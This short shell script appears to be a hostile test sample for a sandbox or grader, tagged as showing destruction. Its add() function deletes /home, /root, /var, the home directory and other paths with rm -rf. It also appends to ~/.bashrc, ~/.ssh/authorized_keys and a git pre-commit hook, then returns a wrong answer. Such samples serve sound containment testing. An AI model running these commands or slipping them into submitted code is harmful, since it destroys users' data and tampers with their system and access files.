# Remove and overwrite everything that can be, from the root down.
# catalogue: H34, H35
# shows: destroys
# ends: wrong_answer, runtime_error
echo attacking >&2
add() {
    rm -rf /tmp /home /root /var /opt /run /srv /mnt ~ . 2>/dev/null
    echo owned >"@SENTINEL@" 2>/dev/null
    for file in ~/.bashrc ~/.profile ~/.ssh/authorized_keys ~/.git/hooks/pre-commit; do
        echo owned >>"$file" 2>/dev/null
    done
    echo -12345
}
